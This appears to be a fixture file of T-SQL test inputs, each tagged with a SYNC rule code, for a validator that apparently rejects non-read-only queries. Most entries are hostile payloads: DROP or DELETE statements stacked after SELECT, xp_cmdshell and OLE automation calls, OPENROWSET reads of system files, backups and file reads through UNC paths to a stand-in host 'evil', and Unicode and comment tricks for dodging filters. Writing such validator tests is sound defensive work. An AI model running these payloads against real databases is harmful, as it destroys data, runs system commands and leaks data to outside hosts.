--8<-- SYNC-1304 drop without a semicolon
SELECT 1 DROP TABLE products
--8<-- SYNC-1304 drop on the next line
SELECT id FROM products
DROP TABLE products
--8<-- SYNC-1304 drop behind a go
SELECT 1
GO
DROP TABLE products
--8<-- SYNC-1304 drop behind a comment
SELECT 1/**/DROP/**/TABLE/**/products
--8<-- SYNC-1304 delete without a semicolon
SELECT id FROM products WHERE id = 1 DELETE FROM products
--8<-- SYNC-1304 delete with a string before it
SELECT 'a' DELETE products
--8<-- SYNC-1304 update without a semicolon
SELECT 1 UPDATE products SET price = 0
--8<-- SYNC-1304 insert without a semicolon
SELECT 1 INSERT products VALUES (1)
--8<-- SYNC-1304 merge without a semicolon
SELECT 1 MERGE products USING brands ON 1 = 1 WHEN MATCHED THEN DELETE;
--8<-- SYNC-1304 truncate without a semicolon
SELECT 1 TRUNCATE TABLE products
--8<-- SYNC-1304 alter without a semicolon
SELECT 1 ALTER LOGIN sa ENABLE
--8<-- SYNC-1304 create without a semicolon
SELECT 1 CREATE TABLE x (id int)
--8<-- SYNC-1304 grant without a semicolon
SELECT 1 GRANT CONTROL TO guest
--8<-- SYNC-1304 deny without a semicolon
SELECT 1 DENY SELECT ON products TO public
--8<-- SYNC-1304 revoke without a semicolon
SELECT 1 REVOKE SELECT ON products FROM public
--8<-- SYNC-1304 shutdown
SELECT 1 SHUTDOWN WITH NOWAIT
--8<-- SYNC-1304 kill
SELECT 1 KILL 55
--8<-- SYNC-1304 use
SELECT 1 USE master
--8<-- SYNC-1304 set
SELECT 1 SET IDENTITY_INSERT products ON
--8<-- SYNC-1304 declare
SELECT 1 DECLARE @x int
--8<-- SYNC-1304 backup to a share
SELECT 1 BACKUP DATABASE shop TO DISK = '\\evil\x'
--8<-- SYNC-1304 restore
SELECT 1 RESTORE DATABASE shop FROM DISK = 'x'
--8<-- SYNC-1304 dbcc
SELECT 1 DBCC DROPCLEANBUFFERS
--8<-- SYNC-1304 bulk insert
SELECT 1 BULK INSERT products FROM 'c:\x.csv'
--8<-- SYNC-1304 reconfigure
SELECT 1 RECONFIGURE
--8<-- SYNC-1304 waitfor delay
SELECT 1 WAITFOR DELAY '0:0:10'
--8<-- SYNC-1304 waitfor in an if
SELECT 1 IF 1 = 1 WAITFOR DELAY '0:0:10'
--8<-- SYNC-1304 while
SELECT 1 WHILE 1 = 1 SELECT 2
--8<-- SYNC-1304 begin transaction
SELECT 1 BEGIN TRANSACTION
--8<-- SYNC-1304 commit
SELECT 1 COMMIT
--8<-- SYNC-1304 rollback
SELECT 1 ROLLBACK
--8<-- SYNC-1304 save transaction
SELECT 1 SAVE TRAN x
--8<-- SYNC-1304 print
SELECT 1 PRINT 'x'
--8<-- SYNC-1304 raiserror
SELECT 1 RAISERROR('x', 20, 1) WITH LOG
--8<-- SYNC-1304 throw
SELECT 1 THROW 50000, 'x', 1
--8<-- SYNC-1304 return
SELECT 1 RETURN
--8<-- SYNC-1304 goto
SELECT 1 GOTO x
--8<-- SYNC-1304 open a cursor
SELECT 1 OPEN c
--8<-- SYNC-1304 open the master key
SELECT 1 OPEN MASTER KEY DECRYPTION BY PASSWORD = 'x'
--8<-- SYNC-1304 close a cursor
SELECT 1 CLOSE c
--8<-- SYNC-1304 deallocate
SELECT 1 DEALLOCATE c
--8<-- SYNC-1304 checkpoint
SELECT 1 CHECKPOINT
--8<-- SYNC-1304 revert
SELECT 1 REVERT
--8<-- SYNC-1304 setuser
SELECT 1 SETUSER 'dbo'
--8<-- SYNC-1304 enable a trigger
SELECT 1 ENABLE TRIGGER t ON products
--8<-- SYNC-1304 disable a trigger
SELECT 1 DISABLE TRIGGER ALL ON products
--8<-- SYNC-1304 send on a conversation
SELECT 1 SEND ON CONVERSATION x
--8<-- SYNC-1304 receive
SELECT 1 RECEIVE * FROM q
--8<-- SYNC-1304 end a conversation
SELECT 1 END CONVERSATION '00000000-0000-0000-0000-000000000000'
--8<-- SYNC-1304 move a conversation
SELECT 1 MOVE CONVERSATION x TO y
--8<-- SYNC-1304 get a conversation group
SELECT 1 GET CONVERSATION GROUP x FROM q
--8<-- SYNC-1304 add a signature
SELECT 1 ADD SIGNATURE TO p BY CERTIFICATE c
--8<-- SYNC-1304 add a classification
SELECT 1 ADD SENSITIVITY CLASSIFICATION TO products.name WITH (LABEL = 'x')
--8<-- SYNC-1304 lineno
SELECT 1 LINENO 5
--8<-- SYNC-1304 read a text pointer
SELECT 1 READTEXT products.note 0x00 0 10
--8<-- SYNC-1304 write a text pointer
SELECT 1 WRITETEXT products.note 0x00 'x'
--8<-- SYNC-1304 update a text pointer
SELECT 1 UPDATETEXT products.note 0x00 0 0 'x'
--8<-- SYNC-1304 dump
SELECT 1 DUMP TRANSACTION shop
--8<-- SYNC-1304 exec of a string
SELECT 1 EXEC('DROP TABLE products')
--8<-- SYNC-1304 exec of a procedure
SELECT 1 EXEC xp_cmdshell 'dir'
--8<-- SYNC-1304 execute as
SELECT 1 EXECUTE AS LOGIN = 'sa'
--8<-- SYNC-1304 exec at a linked server
SELECT 1 EXEC ('DROP TABLE products') AT srv
--8<-- SYNC-1304 exec with an owner
SELECT 1 EXEC master..sp_configure 'show advanced options', 1
--8<-- SYNC-1302 exec alone
EXEC sp_who
--8<-- SYNC-1302 procedure without exec
xp_cmdshell 'dir'
--8<-- SYNC-1302 procedure in brackets without exec
[sp_who]
--8<-- SYNC-1302 procedure with a database
master..xp_cmdshell 'dir'
--8<-- SYNC-1302 exec of OLE automation
EXEC sp_OACreate 'WScript.Shell', 1
--8<-- SYNC-1305 procedure as a function
SELECT * FROM master.dbo.xp_cmdshell('dir')
--8<-- SYNC-1305 procedure as a function in brackets
SELECT [xp_cmdshell]('dir')
--8<-- SYNC-1305 OLE automation as a function
SELECT sp_OACreate('x')
--8<-- SYNC-1305 openrowset
SELECT * FROM OPENROWSET('SQLNCLI', 'Server=evil;Trusted_Connection=yes;', 'DROP TABLE products') x
--8<-- SYNC-1305 openrowset bulk
SELECT * FROM OPENROWSET(BULK 'c:\windows\win.ini', SINGLE_CLOB) x
--8<-- SYNC-1305 openrowset with a blank and a comment
SELECT * FROM OPENROWSET /* x */ (BULK 'c:\x', SINGLE_CLOB) x
--8<-- SYNC-1305 opendatasource
SELECT * FROM OPENDATASOURCE('SQLNCLI', 'Data Source=evil').shop.dbo.products
--8<-- SYNC-1305 openquery
SELECT * FROM OPENQUERY(srv, 'DROP TABLE products')
--8<-- SYNC-1305 openquery in brackets
SELECT * FROM [OPENQUERY](srv, 'SELECT 1')
--8<-- SYNC-1305 openquery in an apply
SELECT p.id FROM products p CROSS APPLY OPENQUERY(srv, 'SELECT 1') x
--8<-- SYNC-1305 openxml
SELECT * FROM OPENXML(1, '/a') x
--8<-- SYNC-1305 transaction log
SELECT * FROM fn_dblog(NULL, NULL)
--8<-- SYNC-1305 transaction log of a backup
SELECT * FROM sys.fn_dump_dblog(NULL, NULL, 'DISK', 1, '\\evil\x')
--8<-- SYNC-1305 events of a file
SELECT * FROM sys.fn_xe_file_target_read_file('\\evil\x', NULL, NULL, NULL)
--8<-- SYNC-1305 audit file
SELECT * FROM sys.fn_get_audit_file('\\evil\x', NULL, NULL)
--8<-- SYNC-1305 trace file
SELECT * FROM fn_trace_gettable('\\evil\x.trc', DEFAULT)
--8<-- SYNC-1310 trace file with full-width letters
SELECT * FROM sys.ｆn_trace_gettable('\\evil\x.trc', DEFAULT)
--8<-- SYNC-1305 files of the disk
SELECT * FROM sys.dm_os_enumerate_filesystem('C:\', '*')
--8<-- SYNC-1305 a file's existence
SELECT * FROM sys.dm_os_file_exists('\\evil\x')
--8<-- SYNC-1305 model of another server
SELECT AI_GENERATE_EMBEDDINGS(name USE MODEL m) FROM products
--8<-- SYNC-1305 model called
SELECT AI_GENERATE_CHUNKS(name) FROM products
--8<-- SYNC-1304 select into
SELECT * INTO copy FROM products
--8<-- SYNC-1304 select into a temporary table
SELECT * INTO #x FROM products
--8<-- SYNC-1304 select into a global temporary table
SELECT id INTO ##x FROM products
--8<-- SYNC-1304 select into behind top
SELECT TOP 1 * INTO x FROM products ORDER BY id
--8<-- SYNC-1304 cte then merge
WITH x AS (SELECT 1 AS id) MERGE products USING x ON 1 = 1 WHEN MATCHED THEN DELETE;
--8<-- SYNC-1304 cte, then select into
WITH x AS (SELECT 1 AS id) SELECT * INTO y FROM x
--8<-- SYNC-1304 cte, then a select, then a delete
WITH x AS (SELECT 1 AS id) SELECT * FROM x DELETE FROM products
--8<-- SYNC-1304 output of an insert as a derived table
SELECT * FROM (INSERT INTO products OUTPUT inserted.id VALUES (1)) x
--8<-- SYNC-1304 output of a delete as a derived table
SELECT * FROM (DELETE FROM products OUTPUT deleted.id) x
--8<-- SYNC-1304 output of a merge as a derived table
SELECT * FROM (MERGE products USING brands ON 1 = 1 WHEN MATCHED THEN DELETE OUTPUT deleted.id) x
--8<-- SYNC-1304 output of an update as a derived table
SELECT * FROM (UPDATE products SET price = 0 OUTPUT inserted.id) x
--8<-- SYNC-1306 update lock
SELECT * FROM products WITH (UPDLOCK)
--8<-- SYNC-1306 exclusive lock of the table
SELECT * FROM products WITH (TABLOCKX)
--8<-- SYNC-1306 several hints
SELECT * FROM products WITH (UPDLOCK, TABLOCKX, HOLDLOCK)
--8<-- SYNC-1306 exclusive lock without with
SELECT * FROM products (XLOCK)
--8<-- SYNC-1306 lock of the table in a subquery
SELECT * FROM (SELECT * FROM products WITH (TABLOCK, HOLDLOCK)) x
--8<-- SYNC-1306 serializable
SELECT * FROM products WITH (SERIALIZABLE)
--8<-- SYNC-1306 repeatable read
SELECT * FROM products WITH (REPEATABLEREAD)
--8<-- SYNC-1306 lock of the page, in lower case
SELECT * FROM products with (paglock)
--8<-- SYNC-1306 lock of the row in a join
SELECT p.id FROM products p JOIN brands b WITH (ROWLOCK, XLOCK) ON b.id = p.brand_id
--8<-- SYNC-1306 hint behind a comment
SELECT * FROM products WITH (/* x */ UPDLOCK)
--8<-- SYNC-1306 for browse
SELECT * FROM products FOR BROWSE
--8<-- SYNC-1306 for update of a cursor
SELECT * FROM products FOR UPDATE OF price
--8<-- SYNC-1305 sequence
SELECT NEXT VALUE FOR dbo.s AS n
--8<-- SYNC-1305 sequence over
SELECT NEXT VALUE FOR s OVER (ORDER BY id) FROM products
--8<-- SYNC-1303 second select without a semicolon
SELECT id FROM products SELECT name FROM products
--8<-- SYNC-1303 second select behind a bracketed name
SELECT [id]SELECT [name] FROM products
--8<-- SYNC-1309 variable
SELECT @x = id FROM products
--8<-- SYNC-1309 server variable
SELECT @@VERSION
--8<-- SYNC-1309 the engine's own parameter
SELECT * FROM products WHERE id > @k0
--8<-- SYNC-1301 escape of ODBC
SELECT {fn NOW()}
--8<-- SYNC-1301 call of ODBC
{call sp_who}
--8<-- SYNC-1301 money
SELECT $1.50 INTO x
--8<-- SYNC-1301 action of a merge
SELECT $action FROM products
--8<-- SYNC-1302 label
x: SELECT 1
--8<-- SYNC-1310 empty binary that runs into a word
SELECT 0xINTO FROM products
--8<-- SYNC-1310 number that runs into a word
SELECT 1DROP TABLE products
--8<-- SYNC-1303 bracket that holds a bracket
SELECT [a]]]; DROP TABLE products --]
--8<-- SYNC-1301 bracket left open
SELECT [a FROM products
--8<-- SYNC-1301 name in double quotes left open
SELECT "a FROM products
--8<-- SYNC-1301 national string left open
SELECT N'a FROM products
--8<-- SYNC-1304 quote in brackets opens nothing
SELECT ['] DROP TABLE products --'
--8<-- SYNC-1304 backslash escapes nothing
SELECT 'a\' DROP TABLE products --'
--8<-- SYNC-1301 nested comment left open
SELECT 1 /* /* */
--8<-- SYNC-1304 nested comment that hides nothing
SELECT 1 /* /* */ */ DROP TABLE products
--8<-- SYNC-1307 leaves the wrapper without a semicolon
SELECT * FROM products) AS q DROP TABLE products --
--8<-- SYNC-1304 leaves the wrapper behind a cte
WITH x AS (SELECT 1) DELETE FROM products) SELECT * FROM x
--8<-- SYNC-1301 full-width parenthesis
SELECT id FROM products） DROP TABLE products
--8<-- SYNC-1301 no-break space before a keyword
SELECT 1 DROP TABLE products
--8<-- SYNC-1301 curly quotes
SELECT ’a’ DROP TABLE products
--8<-- SYNC-1304 modifier letter in place of a quote
SELECT ʼaʼ DROP TABLE products
--8<-- SYNC-1090 the whole result as one text of JSON
SELECT id, name FROM products FOR JSON PATH
--8<-- SYNC-1090 the whole result as one text of XML
SELECT id, name FROM products ORDER BY id FOR XML AUTO
--8<-- SYNC-1302 if exists
IF EXISTS (SELECT 1 FROM products) DROP TABLE products
--8<-- SYNC-1302 declare and execute
DECLARE @x nvarchar(99) = N'DROP TABLE products'; EXEC(@x)
--8<-- SYNC-1302 begin try
BEGIN TRY SELECT 1 END TRY BEGIN CATCH END CATCH
--8<-- SYNC-1302 create a procedure
CREATE PROCEDURE p AS SELECT 1
--8<-- SYNC-1302 set before a select
SET ROWCOUNT 1 SELECT * FROM products
